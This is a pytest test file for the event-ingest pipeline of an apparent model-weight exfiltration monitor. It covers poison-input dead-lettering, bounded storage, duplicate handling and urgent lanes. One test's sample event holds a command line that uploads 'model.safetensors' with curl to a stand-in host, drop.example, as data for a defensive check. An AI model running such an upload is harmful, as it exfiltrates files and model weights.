"""Ingest against a real database: poison never blocks a batch, and nothing grows without bound."""

from __future__ import annotations

import json
import sqlite3
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import text

from tests.collector.hostile import classes, templates
from tests.collector.scenarios import Stream
from weightwarden.collector.ingest.backpressure import BatchSizer
from weightwarden.collector.ingest.bounded import BoundedDict
from weightwarden.collector.ingest.pipeline import Pipeline
from weightwarden.collector.store.database import Store


def canary(host: str = "gpu-c", now: float | None = None) -> tuple[str, bytes]:
    s = Stream(host)
    s.add("canary_read", time.time() if now is None else now, pid=7, path="/srv/models/.canary",
          severity="critical", name="cat", exe="/usr/bin/cat", uid=0)
    return s.messages()[0]


def db_urls(tmp_path: Path, request: pytest.FixtureRequest) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path}/c.db"
    return str(request.getfixturevalue("pg_url"))


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.privileged)])
def store(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Store]:
    url = db_urls(tmp_path, request)
    st = Store(url)
    if request.param == "postgresql":  # one cluster per module: start from empty tables
        with st.tx() as conn:
            for table in ("events", "dead_letters", "alerts", "hosts", "counter_parts", "egress_raw", "history",
                          "processes", "weight_reads"):
                conn.execute(text(f"DELETE FROM {table}"))
    try:
        yield st
    finally:
        st.close()


def test_every_poison_class_is_dead_lettered_and_its_batch_is_stored(store: Store) -> None:
    """The issue's poison inputs and the general classes, each in one batch with a canary read:
    every one a dead letter under its own counter, the canary stored and alerting."""
    pipe = Pipeline(store)
    hostile = classes()
    batch = [(h.topic, h.payload) for h in hostile]
    batch.insert(len(batch) // 2, canary())
    counts = pipe.ingest(batch)
    assert counts == {"stored": 1, "duplicates": 0, "rejected": len(hostile)}, pipe.errors
    assert [a["kind"] for a in store.alerts()] == ["canary_read"]
    stats = store.counters()
    for code in {h.code for h in hostile}:
        assert stats[code] == sum(h.code == code for h in hostile), code
    with store.tx() as conn:
        letters = conn.execute(text("SELECT topic, reason, payload, code FROM dead_letters ORDER BY id")).all()
    assert len(letters) == len(hostile)
    for h, (_topic, reason, payload, code) in zip(hostile, letters, strict=True):
        assert code == h.code and reason and "\x00" not in payload, (h.name, reason)
    assert not pipe.errors


def test_an_event_the_database_refuses_is_dead_lettered_alone(tmp_path: Path) -> None:
    """Content the database will not take (here a trigger refuses one host's events) costs that
    event only: the batch is stored again event by event, and the rest, canary included, is kept."""
    db = tmp_path / "c.db"
    store = Store(f"sqlite:///{db}")
    with sqlite3.connect(db) as raw:
        raw.execute("CREATE TRIGGER refuse BEFORE INSERT ON events WHEN NEW.host = 'gpu-odd' "
                    "BEGIN SELECT RAISE(ABORT, 'refused by the database'); END")
    odd, fine = Stream("gpu-odd"), Stream("gpu-fine")
    for i in range(3):
        odd.add("heartbeat", time.time() - 10 + i)
        fine.add("heartbeat", time.time() - 10 + i)
    pipe = Pipeline(store)
    counts = pipe.ingest(odd.messages()[:1] + fine.messages() + [canary()] + odd.messages()[1:])
    assert counts == {"stored": 4, "duplicates": 0, "rejected": 3}
    assert [a["kind"] for a in store.alerts()] == ["canary_read"]
    with store.tx() as conn:
        reasons = conn.execute(text("SELECT reason FROM dead_letters")).scalars().all()
    assert len(reasons) == 3 and all("refused by the database" in r for r in reasons), reasons
    assert store.counters()["rejected_store"] == 3
    # And the next batch takes the fast path again.
    assert pipe.ingest([canary("gpu-c2")])["stored"] == 1


def test_dead_letters_are_bounded_by_rows_and_bytes(tmp_path: Path) -> None:
    store = Store(f"sqlite:///{tmp_path}/c.db")
    with store.tx() as conn:
        store.dead_letters(conn, [("t", f"reason {i}", b"x" * 900, "rejected_json") for i in range(50)], time.time())
        assert store.trim_dead_letters(conn, max_rows=20, max_bytes=10**9) == 30
        # ~ 910 bytes a row: 5 KB keep the newest five.
        assert store.trim_dead_letters(conn, max_rows=20, max_bytes=5000) == 15
        kept = conn.execute(text("SELECT reason FROM dead_letters ORDER BY id")).scalars().all()
    assert kept == [f"reason {i}" for i in range(45, 50)]
    assert store.counters()["dead_letters_pruned"] == 45


def test_caches_are_bounded() -> None:
    d: BoundedDict[int, int] = BoundedDict(100)
    for i in range(10_000):
        d[i] = i
    assert len(d) <= 100 and 9999 in d and 0 not in d
    pipe = Pipeline.__new__(Pipeline)
    pipe._init_caches()
    for i in range(500):
        pipe.errors.append(str(i))
    assert len(pipe.errors) == 100 and pipe.errors[-1] == "499"


def test_names_users_and_command_lines_are_stored(tmp_path: Path) -> None:
    store = Store(f"sqlite:///{tmp_path}/c.db")
    s = Stream("gpu-1")
    now = time.time()
    s.add("egress_sample", now, ts=now, interval_s=1.0, processes=[{
        "pid": 42, "ppid": 1, "name": "curl", "exe": "/usr/bin/curl", "uid": 1000, "user": "mallory",
        "cmdline": ["curl", "-T", "model.safetensors", "https://drop.example/up"], "tx_bytes": 5000,
        "container": {"cgroup": "/kubepods/pod1/abc", "runtime": "containerd", "pod_name": "trainer-0"},
        "destinations": [{"address": "198.18.5.5", "port": 443, "tx_bytes": 5000, "name": "drop.example"}]}])
    Pipeline(store).ingest(s.messages())
    with store.tx() as conn:
        [row] = conn.execute(text("SELECT dns_name, user_name FROM egress")).all()
        proc = store.process(conn, "gpu-1", 42, "/usr/bin/curl")
    assert tuple(row) == ("drop.example", "mallory")
    assert proc is not None and proc["user_name"] == "mallory" and proc["cmdline"][-1] == "https://drop.example/up"
    assert proc["container"] is not None and proc["container"]["pod_name"] == "trainer-0"


def test_replayed_ids_are_duplicates_not_dead_letters(tmp_path: Path) -> None:
    pipe = Pipeline(Store(f"sqlite:///{tmp_path}/c.db"))
    t = templates()
    msgs = [(f"weightwarden/v1/{e['host']}/{e['type']}", json.dumps(e).encode()) for e in t.values()]
    assert pipe.ingest(msgs + msgs) == {"stored": 3, "duplicates": 3, "rejected": 0}
    assert pipe.ingest(msgs) == {"stored": 0, "duplicates": 3, "rejected": 0}


def test_ids_are_not_reused_across_hosts(tmp_path: Path) -> None:
    """An id another host already used is a duplicate wherever it comes from: a host cannot
    overwrite or shadow another's event by replaying its id (it is simply not stored again)."""
    pipe = Pipeline(Store(f"sqlite:///{tmp_path}/c.db"))
    a = Stream("gpu-a")
    a.add("heartbeat", time.time())
    ev = dict(a.events[0])
    forged = {**ev, "host": "gpu-b"}
    assert pipe.ingest(a.messages())["stored"] == 1
    assert pipe.ingest([("weightwarden/v1/gpu-b/heartbeat", json.dumps(forged).encode())])["duplicates"] == 1
    assert uuid.UUID(ev["id"])


def test_what_may_decide_an_incident_takes_the_urgent_lane(tmp_path: Path) -> None:
    import asyncio

    from weightwarden.collector.ingest.backpressure import Held, Inbox

    pipe = Pipeline(Store(f"sqlite:///{tmp_path}/c.db"))
    topic = "weightwarden/v1/{}/{}".format
    assert not pipe.urgent(topic("gpu-1", "egress_sample")) and not pipe.urgent(topic("gpu-1", "heartbeat"))
    assert pipe.urgent(topic("gpu-1", "canary_read")) and pipe.urgent(topic("gpu-1", "agent_lost"))
    assert pipe.urgent(topic("gpu-1", "file_access")), "a weight read"
    assert pipe.urgent(topic("gpu-1", "egress_sample")), "an upload after it may be the incident"
    assert not pipe.urgent(topic("gpu-2", "egress_sample")) and not pipe.urgent("garbage")

    async def lanes() -> list[list[str]]:
        inbox = Inbox(100, 1 << 20)
        for i in range(5):
            inbox.put(Held(f"bulk{i}", b"x", None))
        inbox.put(Held("read", b"x", None), urgent=True)
        inbox.put(Held("upload", b"x", None), urgent=True)
        assert len(inbox) == 7
        out = []
        while len(inbox):
            batch = await inbox.take(3, 1 << 20, 0.1)
            inbox.release(batch)
            out.append([h.topic for h in batch])
        return out

    # The urgent first, the bulk filling the batch behind them (batches stay large; the bulk is never starved).
    assert asyncio.run(lanes()) == [["read", "upload", "bulk0"], ["bulk1", "bulk2", "bulk3"], ["bulk4"]]


def test_batches_are_sized_to_the_time_they_take() -> None:
    sizer = BatchSizer(target_s=0.5, floor=200, ceiling=5_000)
    assert sizer.limit() == 5_000  # nothing measured yet: as large as allowed
    for _ in range(20):
        sizer.observe(2_000, 2.0)  # 1 ms a message (PostgreSQL on a busy host)
    assert 450 <= sizer.limit() <= 550
    for _ in range(30):
        sizer.observe(500, 0.05)  # 0.1 ms a message: batches grow again
    assert sizer.limit() >= 4_900
    for _ in range(30):
        sizer.observe(1_000, 100.0)  # a stalled database: never under the floor
    assert sizer.limit() == 200
    slow = sizer.per_message_s
    sizer.observe(1, 5.0)  # a lone message's commit moves the average little
    assert sizer.per_message_s is not None and slow is not None and sizer.per_message_s < slow * 2
    sizer.observe(0, 1.0)
    sizer.observe(10, -1.0)  # nonsense is ignored
    assert sizer.limit() == 200
